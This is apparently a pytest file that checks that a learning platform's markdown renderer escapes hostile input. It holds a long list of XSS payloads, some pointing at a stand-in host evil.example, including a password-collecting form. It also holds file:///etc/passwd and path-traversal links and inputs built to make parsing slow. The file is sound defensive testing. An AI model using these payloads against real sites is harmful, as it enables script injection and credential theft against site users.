"""No text, however hostile, becomes code or breaks a page."""

import json
import time
from collections.abc import Iterator

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from lms.catalog.markdown.examining import examine
from lms.catalog.markdown.sanitiser import ATTRIBUTES, TAGS
from lms.catalog.rendering import render_inline, render_text
from tests.catalog.texts import FIGURES, LESSONS, SOURCES, rendered

# Vectors by family: raw HTML, broken HTML, handlers, addresses, entities, styles, SVG and MathML,
# mutation, template and attribute escapes through every construct of the dialect.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](https:javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x]: https://a.example "><script>alert(1)</script>"\n\n[x]',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '!["><img src=x onerror=alert(1)>](figures/hall.svg)',
    '![x](figures/hall.svg "\\"><script>alert(1)</script>")',
    "![x](figures/../../etc/passwd.svg)",
    '![x](figures/hall.svg#"onerror=alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '[x](lesson:queue"onclick=alert(1))',
    "[x](lesson:../../account)",
    "::: tip <script>alert(1)</script>\nx\n:::",
    '::: tip "><img src=x onerror=alert(1)>\nx\n:::',
    '::: tip" onclick="alert(1)\nx\n:::',
    '## "><script>alert(1)</script>',
    "## <img src=x onerror=alert(1)>",
    '[@law-1"><script>alert(1)</script>]',
    '::: check a"b\n- [x] y\n:::',
    "::: check one\n<script>alert(1)</script>\n- [x] <img src=x onerror=alert(1)>\n  > <svg onload=alert(1)>\n:::",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '\ue0000\ue001"><script>alert(1)</script>',
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "<xss style=animation:x onanimationstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "::: timeline <script>alert(1)</script>\n- **<img src=x onerror=alert(1)>** <svg onload=alert(1)>\n:::",
    "::: accordion\n- **<script>alert(1)</script>**\n  [x](javascript:alert(1))\n:::",
    '::: terms "><img src=x onerror=alert(1)>\n- **a" onclick="alert(1)** — <b onmouseover=alert(1)>x</b>\n:::',
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$<script>alert(1)</script>$",
    "$$\n\\mathrm{</math><script>alert(1)</script>}\n$$",
    r"$\style{x}{y}\class{a}{b}\unicode{x3c}$",
    r'$\mathrm{" onclick="alert(1)}$',
    r"$\begin{matrix}<mglyph><style>&lt;img src=x onerror=alert(1)&gt;</style>\end{matrix}$",
    "$a<b>c$ $</mtext><img/src=x/onerror=alert(1)>$",
    "<p>a</p></article></main><script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>\u2029",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
ALLOWED = TAGS | {"img", "html", "body", "section"}


def pieces(body: str) -> Iterator[str]:
    """Everything that a page could show of a text."""
    lesson = rendered(body)
    for block in lesson.blocks:
        if block.html is not None:
            yield str(block.html)
    for term in lesson.terms:
        yield str(escape(term.name))
        yield str(term.definition)
    for check in lesson.checks:
        yield str(check.prompt)
        for option in check.options:
            yield str(option.html)
            yield str(option.explanation)
    for block in lesson.blocks:
        if block.checklist is not None:
            yield from map(str, block.checklist.entries)
        if block.exercise is not None:
            yield from map(str, (block.exercise.text, block.exercise.explanation))
            yield from map(str, block.exercise.notes)
    yield str(render_inline(body))
    yield str(render_text(body))


def faults(markup: str) -> list[str]:
    """What a browser's view of ``markup`` holds that the dialect never makes."""
    if not markup.strip():
        return []
    found = []
    for element in lxml.html.fromstring(f"<section>{markup}</section>").iter():
        if not isinstance(element.tag, str):
            found.append(f"comment or instruction {element!r}")
            continue
        if element.tag not in ALLOWED:
            found.append(f"element {element.tag}")
        for name, value in element.attrib.items():
            found += attribute_faults(element.tag, name, value)
    return found


def attribute_faults(tag: str, name: str, value: str) -> list[str]:
    known = ATTRIBUTES.get(tag, set()) | {"class"}
    if tag == "img":
        known = {"src", "alt", "width", "height", "loading", "decoding"}
    if name not in known:
        return [f"attribute {tag} {name}={value}"]
    if name == "src" and value != FIGURES["figures/hall.svg"].url:
        return [f"image from {value}"]
    if name == "href" and not value.startswith(("https://", "#source-", "/lessons/")):
        return [f"link to {value}"]
    return []


def test_the_corpus_is_large_enough() -> None:
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "place",
    ["{}", "> - {}", "::: note\n{}\n:::", "text {} text", "::: terms\n- **{}** {}\n:::", "$${}$$"],
)
def test_an_attack_stays_text(vector: str, place: str) -> None:
    for markup in pieces(place.replace("{}", vector)):
        assert faults(markup) == []


EXERCISE = """\
::: five-s my-desk {title}
text: |
  {text}
cards:
  - {{text: {yaml}, step: sort, why: {yaml}}}
explanation: |
  {text}
:::

::: checklist my-list {title}
- [ ] {title}
:::
"""


def exercise_with(vector: str) -> str:
    """An exercise and a checklist with the attack in each place that an author fills."""
    line = " ".join(vector.split())
    text = vector.replace("\n", "\n  ")
    return EXERCISE.format(title=line, text=text, yaml=json.dumps(line, ensure_ascii=False))


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_inside_an_exercise_stays_text(vector: str) -> None:
    for markup in pieces(exercise_with(vector)):
        assert faults(markup) == []


CONSTRUCTS = st.sampled_from(
    [*VECTORS, ":::", "::: note", "::: check abc", "::: timeline", "::: terms", "::: accordion", "- **a** b", "::: takt ab", "minutes: 60", "::: checklist ab", "- [ ] a", "$x$", "$$", "- [x] a", "- [ ] b", "  > why", "|---|",
     "| a | b |", "## h", "[@law-1]", "![a](figures/hall.svg)", "[a](lesson:queue)", "```", "\n",
     "\n\n", "    ", "> ", "* * *", "[a]: https://b.example", "\\", "&amp;", "<", "\x00", "\ue000"]
)  # fmt: skip
TEXTS = st.lists(CONSTRUCTS | st.text(max_size=20), max_size=12).map("\n".join) | st.text()


@settings(max_examples=300, deadline=None)
@given(TEXTS)
@example(":::\n::: check ab\n:::")
@example("::: check ab\n- [x]\n:::")
@example("- [x] a\n  > b")
def test_no_text_breaks_rendering_or_examining(text: str) -> None:
    for markup in pieces(text):
        assert faults(markup) == []
    examine(text, sources=SOURCES, figures=FIGURES, lessons=LESSONS)


@pytest.mark.parametrize(
    "bomb",
    [
        "[" * 20_000,
        "![" * 10_000,
        "> " * 5_000 + "x",
        "- " * 5_000 + "x",
        "*a " * 10_000,
        "`" * 20_000,
        "[a](" * 5_000,
        "::: note\n" * 2_000,
        "|" * 10_000 + "\n" + "|-" * 5_000 + "|",
        "<" * 20_000,
        "[@" * 10_000,
        "\\" * 20_000,
    ],
    ids=lambda bomb: bomb[:6].strip(),
)
def test_a_text_made_to_be_slow_is_not(bomb: str) -> None:
    begun = time.process_time()
    assert rendered(bomb).checks == ()
    assert time.process_time() - begun < 10


@pytest.mark.parametrize("part", ["# a\n", "[](", "[a](<", "![](x "])
def test_a_text_of_one_thing_repeated_costs_no_more_than_its_length(part: str) -> None:
    body = part * (40_000 // len(part))
    began = time.process_time()
    rendered(body)
    examine(body, sources=(), figures=(), lessons=())
    assert time.process_time() - began < 10
